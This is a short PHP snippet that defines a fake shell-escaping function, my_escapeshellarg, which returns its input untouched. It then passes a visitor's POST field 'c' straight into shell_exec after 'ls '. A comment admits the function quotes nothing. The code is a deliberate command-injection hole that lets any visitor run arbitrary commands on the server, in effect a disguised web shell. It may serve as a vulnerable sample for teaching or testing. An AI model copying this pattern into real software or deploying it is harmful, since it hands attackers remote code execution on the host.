<?php
// a function named like the quoting one that quotes nothing: the command is the visitor's
function my_escapeshellarg($s) { return $s; }
$c = $_POST['c'];
echo shell_exec('ls ' . my_escapeshellarg($c));
